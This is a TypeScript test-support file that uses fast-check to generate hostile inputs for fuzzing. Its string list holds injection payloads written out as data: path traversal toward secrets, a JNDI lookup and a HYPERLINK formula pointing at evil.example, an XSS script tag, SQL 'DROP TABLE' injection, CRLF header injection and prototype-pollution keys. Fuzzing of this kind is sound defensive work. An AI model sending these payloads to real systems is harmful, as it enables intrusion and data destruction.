import * as fc from "fast-check"

export const hostileTexts: ReadonlyArray<string> = [
  ...". .. ... %2e%2e %2E%2e%2f ../../v1/secrets ..\\..\\secrets ..;/ a/../../b / //evil.example/".split(" "),
  ..."///evil.example \\\\evil.example\\share http://evil.example/ https://evil.example:8443/v1?x=y#z".split(" "),
  ..."https://user:password@evil.example/ @evil.example :80@evil.example/ # #@evil.example/ ?".split(" "),
  ..."?key=x&alt=media &apikey=evil& ;x=y {range} ${jndi:ldap://evil.example/x} $&$1$` % %00 %E0%A4%A".split(" "),
  ..."%ff a\nb \t \0 a\0b \uFEFFa \u202Egnp.exe \u2028\u2029 ．．／ 。。".split(" "),
  ..."ｅｖｉｌ．ｅｘａｍｐｌｅ evil。example ⅇvil".split(" "),
  ..."\u0130\u0131 \uD800 \uDFFF\uD800 a\uD83D \u{1F680}\u{10FFFF} e\u0301 __proto__ constructor".split(" "),
  ..."prototype toString hasOwnProperty null NaN -0 1e999 9007199254740993 <script>alert(1)</script>".split(" "),
  ..."=HYPERLINK(\"http://evil.example\") \"\\ \\u0000 2026-02-30 0000-01-01".split(" "),
  "",
  " ",
  "a\r\nHost: evil.example\r\n\r\n",
  "9".repeat(400),
  "'; DROP TABLE calls; --",
  "Bearer ya29.hostile-0123456789",
  "a".repeat(2_000),
  "\u{1F680}".repeat(600),
  "A".repeat(30) + "!"
]

/** Like the unit "binary" of fast-check, which takes a second and keeps 85 MB for a map of them all. */
export const codePoint: fc.Arbitrary<string> = fc.integer({ min: 0, max: 0x10_F7FF }).map((index) =>
  // Without the 2,048 surrogates.
  String.fromCodePoint(index < 0xD800 ? index : index + 0x800)
)

export const hostileText: fc.Arbitrary<string> = fc.oneof(
  { arbitrary: fc.constantFrom(...hostileTexts), weight: 6 },
  {
    arbitrary: fc.tuple(fc.constantFrom(...hostileTexts), fc.constantFrom(...hostileTexts)).map((two) => two.join("")),
    weight: 2
  },
  { arbitrary: fc.string({ unit: codePoint, maxLength: 30 }), weight: 1 },
  { arbitrary: fc.string({ unit: "grapheme", maxLength: 30 }), weight: 1 }
)

export const hostileNumber: fc.Arbitrary<number> = fc.constantFrom(
  0,
  -0,
  -1,
  0.1,
  1.5,
  2 ** 31,
  2 ** 32,
  2 ** 53,
  -(2 ** 63),
  1e21,
  1e308,
  5e-324,
  604_801
)

const objectWith = (name: string, value: unknown): object =>
  JSON.parse(`{${JSON.stringify(name)}:${JSON.stringify(value)}}`)

export const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  { arbitrary: hostileText, weight: 4 },
  { arbitrary: hostileNumber, weight: 2 },
  { arbitrary: fc.constantFrom<unknown>(null, true, false, [], {}, [[]], [null], { "": {} }), weight: 2 },
  {
    arbitrary: fc.tuple(hostileText, fc.constantFrom<unknown>(null, 1, {}, { admin: true })).map(([name, value]) =>
      objectWith(name, value)
    ),
    weight: 1
  },
  { arbitrary: fc.jsonValue({ maxDepth: 3 }), weight: 1 }
)
